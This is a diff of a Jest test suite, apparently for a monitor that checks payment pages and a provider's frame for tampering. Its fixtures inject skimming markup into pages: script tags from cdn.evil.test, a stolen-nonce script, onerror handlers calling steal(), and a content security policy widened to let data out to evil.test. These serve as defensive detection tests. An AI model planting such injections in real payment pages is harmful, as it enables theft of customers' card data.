@@ -1,9 +1,21 @@
 import { afterAll, afterEach, beforeAll, describe, expect, it, jest } from '@jest/globals';
 import { EVERY_BRAND } from '@foyer/kernel/registry-answers';
 import { BOOT_GUARD, SILENT_RENEWAL, type RegistryClient } from '@foyer/runtime';
-import { startTamperedSite, type SiteAnswer, type TamperedSite, type Tampering } from '../testing/tamperedSite.ts';
+import {
+  startTamperedSite,
+  type SiteAnswer,
+  type TamperedSite,
+  type Tampering,
+} from '../testing/tamperedSite.ts';
 import { START_MS, startTestRegistry, type TestRegistry } from '../testing/testRegistry.ts';
-import { away, inFrame, inPages, planted, startWatchedSite, type WatchedSite } from '../testing/watchedSite.ts';
+import {
+  away,
+  inFrame,
+  inPages,
+  planted,
+  startWatchedSite,
+  type WatchedSite,
+} from '../testing/watchedSite.ts';
 import type { ScriptInventory } from './scriptInventory.ts';
 
 jest.setTimeout(START_MS);
@@ -23,19 +35,27 @@ afterAll(() => watched.close(), START_MS);
 const check = (): ReturnType<WatchedSite['check']> => watched.check();
 const alerts = (): number => watched.alerts();
 
-const nonceOf = ({ headers }: SiteAnswer): string => /nonce-([^']+)/.exec(String(headers['content-security-policy']))?.[1] ?? '';
+const nonceOf = ({ headers }: SiteAnswer): string =>
+  /nonce-([^']+)/.exec(String(headers['content-security-policy']))?.[1] ?? '';
 const withNonce = (make: (nonce: string) => string): Tampering =>
   inPages((answer) => (answer.body = answer.body.replace('</head>', `${make(nonceOf(answer))}</head>`)));
-const header = (name: string, change: (value: string) => string | undefined): Tampering => inPages((answer) => {
-  const value = change(String(answer.headers[name] ?? ''));
-  if (value === undefined) delete answer.headers[name];
-  else answer.headers[name] = value;
-});
+const header = (name: string, change: (value: string) => string | undefined): Tampering =>
+  inPages((answer) => {
+    const value = change(String(answer.headers[name] ?? ''));
+    if (value === undefined) delete answer.headers[name];
+    else answer.headers[name] = value;
+  });
 
 it('before the first shell is live there is nothing to look at', async () => {
   const nobody = await startTamperedSite();
-  const empty = await startTestRegistry({ FOYER_GATEWAY_PORT: String(nobody.port), FOYER_PAYMENTS_PORT: String(nobody.port) });
-  expect(await (await empty.as('staff/operator')).post('/v1/page-check', {})).toMatchObject({ pages: 0, findings: [] });
+  const empty = await startTestRegistry({
+    FOYER_GATEWAY_PORT: String(nobody.port),
+    FOYER_PAYMENTS_PORT: String(nobody.port),
+  });
+  expect(await (await empty.as('staff/operator')).post('/v1/page-check', {})).toMatchObject({
+    pages: 0,
+    findings: [],
+  });
   await nobody.close();
   await empty.close();
 });
@@ -48,43 +68,169 @@ describe('the payment pages as a browser receives them', () => {
   });
 
   it.each<[string, Tampering, string, string]>([
-    ['a skimmer', planted('<script src="https://cdn.evil.test/skimmer.js"></script>'), 'script-unknown', 'https://cdn.evil.test/skimmer.js'],
-    ['a skimmer that has stolen the nonce', withNonce((nonce) => `<script nonce="${nonce}" src="https://cdn.evil.test/skimmer.js"></script>`), 'script-unknown', 'https://cdn.evil.test/skimmer.js'],
-    ['a script in the text', withNonce((nonce) => `<script nonce="${nonce}">steal()</script>`), 'script-unknown', 'in the document: steal()'],
-    ['one in a comment', planted('<!-- <script>steal()</script> -->'), 'script-unknown', 'in the document: steal()'],
-    ['one that is hard to read', planted('<script "="/src=//evil.test/a.js></script>'), 'markup-forbidden', 'a script tag that cannot be read'],
-    ['a module preload', planted('<link rel=modulepreload href=https://cdn.evil.test/a.js>'), 'script-unknown', 'https://cdn.evil.test/a.js'],
-    ['a map of imports', withNonce((nonce) => `<script nonce="${nonce}" type="importmap">{"imports":{}}</script>`), 'script-unknown', 'in the document: {"imports":{}}'],
+    [
+      'a skimmer',
+      planted('<script src="https://cdn.evil.test/skimmer.js"></script>'),
+      'script-unknown',
+      'https://cdn.evil.test/skimmer.js',
+    ],
+    [
+      'a skimmer that has stolen the nonce',
+      withNonce((nonce) => `<script nonce="${nonce}" src="https://cdn.evil.test/skimmer.js"></script>`),
+      'script-unknown',
+      'https://cdn.evil.test/skimmer.js',
+    ],
+    [
+      'a script in the text',
+      withNonce((nonce) => `<script nonce="${nonce}">steal()</script>`),
+      'script-unknown',
+      'in the document: steal()',
+    ],
+    [
+      'one in a comment',
+      planted('<!-- <script>steal()</script> -->'),
+      'script-unknown',
+      'in the document: steal()',
+    ],
+    [
+      'one that is hard to read',
+      planted('<script "="/src=//evil.test/a.js></script>'),
+      'markup-forbidden',
+      'a script tag that cannot be read',
+    ],
+    [
+      'a module preload',
+      planted('<link rel=modulepreload href=https://cdn.evil.test/a.js>'),
+      'script-unknown',
+      'https://cdn.evil.test/a.js',
+    ],
+    [
+      'a map of imports',
+      withNonce((nonce) => `<script nonce="${nonce}" type="importmap">{"imports":{}}</script>`),
+      'script-unknown',
+      'in the document: {"imports":{}}',
+    ],
     ['another base', planted('<base href="https://evil.test/">'), 'markup-forbidden', 'base'],
     ['a handler', planted('<img src=x onerror="steal()">'), 'markup-forbidden', 'img onerror'],
     ['a frame', planted('<iframe src="https://evil.test/card"></iframe>'), 'markup-forbidden', 'iframe'],
-    ['a meta refresh', planted('<meta http-equiv="refresh" content="0;url=https://evil.test/">'), 'markup-forbidden', 'meta'],
-    ['our script without its hash', inPages((answer) => (answer.body = answer.body.replace(/ integrity="[^"]+"/g, ''))), 'script-unprotected', '/assets/shell/s1/entry.js'],
-    ['our inline script changed by a byte', inPages((answer) => (answer.body = answer.body.replace('dataset.boot="failed"', 'dataset.boot="Failed"'))), 'script-unknown', 'in the document: addEventListener'],
-    ['a wider policy', header('content-security-policy', (value) => value.replace("connect-src 'self'", "connect-src 'self' https://evil.test")), 'header-changed', 'content-security-policy'],
-    ['only the second policy taken away', header('content-security-policy', (value) => value.split(', ')[0]), 'header-changed', 'content-security-policy'],
-    ['no policy', header('content-security-policy', () => undefined), 'header-missing', 'content-security-policy'],
-    ['a page that may be framed', header('x-frame-options', () => undefined), 'header-missing', 'x-frame-options'],
-    ['a page that others may read', header('access-control-allow-origin', () => '*'), 'header-added', 'access-control-allow-origin'],
-    ['a preload by header', header('link', () => '<https://evil.test/a.js>; rel=preload; as=script'), 'header-added', 'link'],
-    ['one byte in a file', (answer, path) => { if (path.endsWith('/entry.js')) answer.body += ' '; }, 'file-changed', '/assets/shell/s1/entry.js'],
+    [
+      'a meta refresh',
+      planted('<meta http-equiv="refresh" content="0;url=https://evil.test/">'),
+      'markup-forbidden',
+      'meta',
+    ],
+    [
+      'our script without its hash',
+      inPages((answer) => (answer.body = answer.body.replace(/ integrity="[^"]+"/g, ''))),
+      'script-unprotected',
+      '/assets/shell/s1/entry.js',
+    ],
+    [
+      'our inline script changed by a byte',
+      inPages(
+        (answer) => (answer.body = answer.body.replace('dataset.boot="failed"', 'dataset.boot="Failed"')),
+      ),
+      'script-unknown',
+      'in the document: addEventListener',
+    ],
+    [
+      'a wider policy',
+      header('content-security-policy', (value) =>
+        value.replace("connect-src 'self'", "connect-src 'self' https://evil.test"),
+      ),
+      'header-changed',
+      'content-security-policy',
+    ],
+    [
+      'only the second policy taken away',
+      header('content-security-policy', (value) => value.split(', ')[0]),
+      'header-changed',
+      'content-security-policy',
+    ],
+    [
+      'no policy',
+      header('content-security-policy', () => undefined),
+      'header-missing',
+      'content-security-policy',
+    ],
+    [
+      'a page that may be framed',
+      header('x-frame-options', () => undefined),
+      'header-missing',
+      'x-frame-options',
+    ],
+    [
+      'a page that others may read',
+      header('access-control-allow-origin', () => '*'),
+      'header-added',
+      'access-control-allow-origin',
+    ],
+    [
+      'a preload by header',
+      header('link', () => '<https://evil.test/a.js>; rel=preload; as=script'),
+      'header-added',
+      'link',
+    ],
+    [
+      'one byte in a file',
+      (answer, path) => {
+        if (path.endsWith('/entry.js')) answer.body += ' ';
+      },
+      'file-changed',
+      '/assets/shell/s1/entry.js',
+    ],
   ])('are found to hold %s', async (_what, tampering, problem, subject) => {
     site.tampering = tampering;
     const { findings } = await check();
     expect(new Set(findings.map(({ brand }) => brand)).size).toBe(5);
-    expect(findings).toEqual(expect.arrayContaining([expect.objectContaining({ problem, subject: expect.stringContaining(subject) as unknown })]));
+    expect(findings).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ problem, subject: expect.stringContaining(subject) as unknown }),
+      ]),
+    );
   });
 
   // beside a page's own script, what is at home in one document is a stranger in the other
   it.each<[string, string, (answer: SiteAnswer) => void, string]>([
-    ['a skimmer in the document of the silent sign-in', SILENT_RENEWAL.document, (answer) => (answer.body = answer.body.replace('</head>', '<script>parent.document.forms</script></head>')), 'script-unknown'],
-    ['a text of our pages there', SILENT_RENEWAL.document, (answer) => (answer.body = answer.body.replace('</head>', `<script>${BOOT_GUARD.text}</script></head>`)), 'script-unknown'],
-    ['a wider policy there', SILENT_RENEWAL.document, (answer) => (answer.headers['content-security-policy'] = `${String(answer.headers['content-security-policy'])} 'unsafe-inline'`), 'header-changed'],
-    ['the text of the silent sign-in in a page', '/en/deposit/', (answer) => (answer.body = answer.body.replace('</head>', `<script nonce="${nonceOf(answer)}">${SILENT_RENEWAL.text}</script></head>`)), 'script-unknown'],
+    [
+      'a skimmer in the document of the silent sign-in',
+      SILENT_RENEWAL.document,
+      (answer) =>
+        (answer.body = answer.body.replace('</head>', '<script>parent.document.forms</script></head>')),
+      'script-unknown',
+    ],
+    [
+      'a text of our pages there',
+      SILENT_RENEWAL.document,
+      (answer) =>
+        (answer.body = answer.body.replace('</head>', `<script>${BOOT_GUARD.text}</script></head>`)),
+      'script-unknown',
+    ],
+    [
+      'a wider policy there',
+      SILENT_RENEWAL.document,
+      (answer) =>
+        (answer.headers['content-security-policy'] =
+          `${String(answer.headers['content-security-policy'])} 'unsafe-inline'`),
+      'header-changed',
+    ],
+    [
+      'the text of the silent sign-in in a page',
+      '/en/deposit/',
+      (answer) =>
+        (answer.body = answer.body.replace(
+          '</head>',
+          `<script nonce="${nonceOf(answer)}">${SILENT_RENEWAL.text}</script></head>`,
+        )),
+      'script-unknown',
+    ],
   ])('are found to hold %s', async (_what, document, change, problem) => {
     site.tampering = (answer, path) => path === document && change(answer);
     const { findings } = await check();
-    expect(findings.map((found) => [found.page === SILENT_RENEWAL.name, found.problem])).toContainEqual([document === SILENT_RENEWAL.document, problem]);
+    expect(findings.map((found) => [found.page === SILENT_RENEWAL.name, found.problem])).toContainEqual([
+      document === SILENT_RENEWAL.document,
+      problem,
+    ]);
   });
 
   it('raise one alert for one change, which stays in the audit, and another when it comes again', async () => {
@@ -97,8 +243,21 @@ describe('the payment pages as a browser receives them', () => {
     await check();
     expect(alerts()).toBe(before + 1);
     while (heard.length === 0) await new Promise(setImmediate);
-    expect(heard[0]).toMatchObject({ text: expect.stringContaining('script-unknown on deposit of aurora: https://cdn.evil.test/once.js') as unknown });
-    expect(await operator.get('/v1/audit?environment=registry&limit=1')).toMatchObject({ entries: [{ actor: 'registry', role: 'page-check', kind: 'page-changed', brands: ['aurora', 'tuli', 'caravel', 'zephyra', 'quetzal'] }] });
+    expect(heard[0]).toMatchObject({
+      text: expect.stringContaining(
+        'script-unknown on deposit of aurora: https://cdn.evil.test/once.js',
+      ) as unknown,
+    });
+    expect(await operator.get('/v1/audit?environment=registry&limit=1')).toMatchObject({
+      entries: [
+        {
+          actor: 'registry',
+          role: 'page-check',
+          kind: 'page-changed',
+          brands: ['aurora', 'tuli', 'caravel', 'zephyra', 'quetzal'],
+        },
+      ],
+    });
     site.tampering = undefined;
     await check();
     site.tampering = planted('<script src="https://cdn.evil.test/once.js"></script>');
@@ -108,7 +267,12 @@ describe('the payment pages as a browser receives them', () => {
   });
 
   describe('that nobody serves', () => {
-    const raised = async (): Promise<readonly { kind: string; brands: readonly string[] }[]> => (await operator.get<{ entries: readonly { kind: string; brands: readonly string[] }[] }>('/v1/audit?environment=registry&limit=3')).entries;
+    const raised = async (): Promise<readonly { kind: string; brands: readonly string[] }[]> =>
+      (
+        await operator.get<{ entries: readonly { kind: string; brands: readonly string[] }[] }>(
+          '/v1/audit?environment=registry&limit=3',
+        )
+      ).entries;
 
     it('are one alert after three checks in a row, whatever the answer was, until they can be had again', async () => {
       site.tampering = undefined;
@@ -122,11 +286,28 @@ describe('the payment pages as a browser receives them', () => {
       };
       for (const [index, status] of [503, 502, 504, 503].entries()) {
         site.tampering = away(status);
-        expect((await check()).findings).toEqual(expect.arrayContaining([{ brand: 'tuli', page: 'deposit', problem: 'unreachable', subject: String(status), tries: index + 1 }]));
+        expect((await check()).findings).toEqual(
+          expect.arrayContaining([
+            {
+              brand: 'tuli',
+              page: 'deposit',
+              problem: 'unreachable',
+              subject: String(status),
+              tries: index + 1,
+            },
+          ]),
+        );
         expect(alerts() - before).toBe(index < 2 ? 0 : 1);
       }
-      expect(await told(1)).toEqual({ about: 'payment-pages-unverified', text: 'Page check: deposit of aurora could not be fetched 3 times in a row (504) and 19 more: nobody knows what browsers receive' });
-      expect(await raised()).toMatchObject([{ kind: 'page-unverified', brands: ['aurora', 'tuli', 'caravel', 'zephyra', 'quetzal'] }, {}, {}]);
+      expect(await told(1)).toEqual({
+        about: 'payment-pages-unverified',
+        text: 'Page check: deposit of aurora could not be fetched 3 times in a row (504) and 19 more: nobody knows what browsers receive',
+      });
+      expect(await raised()).toMatchObject([
+        { kind: 'page-unverified', brands: ['aurora', 'tuli', 'caravel', 'zephyra', 'quetzal'] },
+        {},
+        {},
+      ]);
       site.tampering = undefined;
       expect((await check()).findings).toEqual([]);
       expect(await told(2)).toMatchObject({ about: 'payment-pages-unverified', ended: true });
@@ -150,24 +331,89 @@ describe('the payment pages as a browser receives them', () => {
   });
 
   it('are looked at on demand by operators and auditors only', async () => {
-    await expect((await registry.as('squads/casino')).post('/v1/page-check', {})).rejects.toMatchObject({ code: 'NOT_PERMITTED' });
-    await expect((await registry.as('staff/auditor')).post('/v1/page-check', {})).resolves.toMatchObject({ cause: 'demand' });
+    await expect((await registry.as('squads/casino')).post('/v1/page-check', {})).rejects.toMatchObject({
+      code: 'NOT_PERMITTED',
+    });
+    await expect((await registry.as('staff/auditor')).post('/v1/page-check', {})).resolves.toMatchObject({
+      cause: 'demand',
+    });
   });
 });
 
 describe('the provider’s frame as a browser receives it', () => {
   it.each<[string, Tampering, string, string]>([
-    ['a skimmer', inFrame('/frame/', (answer) => (answer.body = answer.body.replace('</head>', '<script src="https://cdn.evil.test/a.js"></script></head>'))), 'script-unknown', 'https://cdn.evil.test/a.js'],
-    ['its script without the hash', inFrame('/frame/', (answer) => (answer.body = answer.body.replace(/ integrity="[^"]+"/g, ''))), 'script-unprotected', '/assets/frame-'],
-    ['a byte in its script', inFrame('/assets/frame-', (answer) => (answer.body += ' ')), 'file-changed', '/assets/frame-'],
-    ['a policy that lets numbers out', inFrame('/frame/', (answer) => (answer.headers['content-security-policy'] = String(answer.headers['content-security-policy']).replace("connect-src 'self'", "connect-src 'self' https://evil.test"))), 'header-changed', 'content-security-policy'],
-    ['an inventory that allows the skimmer too', inFrame('/inventory', (answer) => (answer.body = answer.body.replaceAll('/assets/frame-', '/assets/other-'))), 'inventory-unsigned', '/inventory'],
-    ['an inventory that nobody signed', inFrame('/inventory', (answer) => (answer.body = JSON.stringify({ ...JSON.parse(answer.body), signatures: [] }))), 'inventory-unsigned', '/inventory'],
+    [
+      'a skimmer',
+      inFrame(
+        '/frame/',
+        (answer) =>
+          (answer.body = answer.body.replace(
+            '</head>',
+            '<script src="https://cdn.evil.test/a.js"></script></head>',
+          )),
+      ),
+      'script-unknown',
+      'https://cdn.evil.test/a.js',
+    ],
+    [
+      'its script without the hash',
+      inFrame('/frame/', (answer) => (answer.body = answer.body.replace(/ integrity="[^"]+"/g, ''))),
+      'script-unprotected',
+      '/assets/frame-',
+    ],
+    [
+      'a byte in its script',
+      inFrame('/assets/frame-', (answer) => (answer.body += ' ')),
+      'file-changed',
+      '/assets/frame-',
+    ],
+    [
+      'a policy that lets numbers out',
+      inFrame(
+        '/frame/',
+        (answer) =>
+          (answer.headers['content-security-policy'] = String(
+            answer.headers['content-security-policy'],
+          ).replace("connect-src 'self'", "connect-src 'self' https://evil.test")),
+      ),
+      'header-changed',
+      'content-security-policy',
+    ],
+    [
+      'an inventory that allows the skimmer too',
+      inFrame(
+        '/inventory',
+        (answer) => (answer.body = answer.body.replaceAll('/assets/frame-', '/assets/other-')),
+      ),
+      'inventory-unsigned',
+      '/inventory',
+    ],
+    [
+      'an inventory that nobody signed',
+      inFrame(
+        '/inventory',
+        (answer) => (answer.body = JSON.stringify({ ...JSON.parse(answer.body), signatures: [] })),
+      ),
+      'inventory-unsigned',
+      '/inventory',
+    ],
     ['no frame', inFrame('/frame/', (answer) => (answer.status = 404)), 'unreachable', '404'],
-    ['no inventory', inFrame('/inventory', (answer) => (answer.status = 503)), 'unreachable', '/inventory: 503'],
+    [
+      'no inventory',
+      inFrame('/inventory', (answer) => (answer.status = 503)),
+      'unreachable',
+      '/inventory: 503',
+    ],
   ])('is found to have %s', async (_what, tampering, problem, subject) => {
     site.tampering = tampering;
-    expect((await check()).findings).toContainEqual(expect.objectContaining({ brand: EVERY_BRAND, page: 'payment frame', problem, subject: expect.stringContaining(subject) as unknown }));
+    expect((await check()).findings).toContainEqual(
+      expect.objectContaining({
+        brand: EVERY_BRAND,
+        page: 'payment frame',
+        problem,
+        subject: expect.stringContaining(subject) as unknown,
+      }),
+    );
   });
 
   it('alerts at once, for every brand', async () => {
@@ -177,7 +423,15 @@ describe('the provider’s frame as a browser receives it', () => {
     site.tampering = inFrame('/assets/frame-', (answer) => (answer.body += ' '));
     await check();
     expect(alerts()).toBe(before + 1);
-    expect(await operator.get('/v1/audit?environment=registry&limit=1')).toMatchObject({ entries: [{ kind: 'page-changed', brands: ['aurora', 'tuli', 'caravel', 'zephyra', 'quetzal'], reason: expect.stringContaining('file-changed on the payment frame') as unknown }] });
+    expect(await operator.get('/v1/audit?environment=registry&limit=1')).toMatchObject({
+      entries: [
+        {
+          kind: 'page-changed',
+          brands: ['aurora', 'tuli', 'caravel', 'zephyra', 'quetzal'],
+          reason: expect.stringContaining('file-changed on the payment frame') as unknown,
+        },
+      ],
+    });
   });
 
   it('is not believed to be what an old inventory says', async () => {
@@ -193,19 +447,38 @@ describe('the provider’s frame as a browser receives it', () => {
 
 describe('the inventory of scripts', () => {
   it('says of everything that may run who answers for it, its hash and why it is there', async () => {
-    const { files, inline, frames } = await (await registry.as('staff/auditor')).get<ScriptInventory>('/v1/scripts');
-    expect(files.map(({ path }) => path)).toEqual(expect.arrayContaining(['/assets/shell/s1/entry.js', '/assets/mfe-casino/k2/entry.js', '/assets/mfe-casino/k2/main.css']));
+    const { files, inline, frames } = await (
+      await registry.as('staff/auditor')
+    ).get<ScriptInventory>('/v1/scripts');
+    expect(files.map(({ path }) => path)).toEqual(
+      expect.arrayContaining([
+        '/assets/shell/s1/entry.js',
+        '/assets/mfe-casino/k2/entry.js',
+        '/assets/mfe-casino/k2/main.css',
+      ]),
+    );
     for (const { integrity, owner, reason, role } of files) {
       expect(integrity).toMatch(/^sha384-[A-Za-z0-9+/]{64}$/);
       expect([owner, reason, role].every((words) => words.length > 0)).toBe(true);
     }
-    for (const { integrity, reason } of inline) expect([integrity.startsWith('sha384-'), reason.length > 20]).toEqual([true, true]);
-    expect(inline.map(({ name, document }) => [name, document])).toEqual([['boot guard', undefined], ['early question', undefined], ['silent renewal', '/silent-renew.html']]);
+    for (const { integrity, reason } of inline)
+      expect([integrity.startsWith('sha384-'), reason.length > 20]).toEqual([true, true]);
+    expect(inline.map(({ name, document }) => [name, document])).toEqual([
+      ['boot guard', undefined],
+      ['early question', undefined],
+      ['silent renewal', '/silent-renew.html'],
+    ]);
     expect(frames.map(({ origin }) => origin)).toContain(`http://pay.localhost:${site.port}`);
   });
 
   it('drops what was withdrawn', async () => {
-    await operator.post('/v1/changes', { environment: 'production', reason: 'because of a test', kind: 'withdraw', app: 'mfe-casino', release: 'k2' });
+    await operator.post('/v1/changes', {
+      environment: 'production',
+      reason: 'because of a test',
+      kind: 'withdraw',
+      app: 'mfe-casino',
+      release: 'k2',
+    });
     const { files } = await operator.get<ScriptInventory>('/v1/scripts');
     expect(files.some(({ release }) => release === 'k2')).toBe(false);
     // pages go without it as soon as the edge has looked at the plan
@@ -216,6 +489,9 @@ describe('the inventory of scripts', () => {
 // a key is revoked for good
 it('an inventory of a key that counts no more is not believed', async () => {
   const { keys } = await operator.get<{ keys: readonly { id: string; holder: string }[] }>('/v1/keys');
-  await operator.post('/v1/keys/revoke', { keyId: keys.find(({ holder }) => holder === 'payments')?.id, reason: 'because of a test' });
+  await operator.post('/v1/keys/revoke', {
+    keyId: keys.find(({ holder }) => holder === 'payments')?.id,
+    reason: 'because of a test',
+  });
   expect((await check()).findings).toMatchObject([{ brand: EVERY_BRAND, problem: 'inventory-unsigned' }]);
 });
